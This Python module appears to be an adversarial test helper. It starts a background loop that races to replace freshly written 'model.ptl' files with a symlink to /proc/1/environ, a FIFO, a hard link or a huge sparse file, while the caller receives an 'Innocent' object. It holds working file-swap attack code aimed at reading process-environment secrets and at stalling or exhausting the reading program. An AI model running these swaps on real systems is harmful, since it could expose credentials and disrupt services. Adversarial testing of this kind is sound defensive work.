import os

from attacking import Innocent, in_background

CODE = """
import os, sys, time
from pathlib import Path
kind, when, scratch = sys.argv[2], sys.argv[3], Path(sys.argv[4])

def replace(path):
    new = path.with_suffix(".new")
    if kind == "symlink":
        new.symlink_to("/proc/1/environ")
    elif kind == "fifo":
        os.mkfifo(new)
    elif kind == "hardlink":
        other = path.with_suffix(".other")
        other.write_bytes(path.read_bytes())
        os.link(other, new)
    elif kind == "sparse":
        with new.open("wb") as stream:
            stream.truncate(7 << 30)
    os.replace(new, path)

done = set()
while True:
    for path in scratch.rglob("model.ptl"):
        ready = when == "at once" or any(folder.name.startswith("lite") for folder in scratch.iterdir())
        if path not in done and ready and path.stat().st_size:
            done.add(path)
            time.sleep(0.02)
            replace(path)
    time.sleep(0.0005)
"""


def make(kind, when):
    in_background(CODE, kind, when, os.getcwd())
    return Innocent()
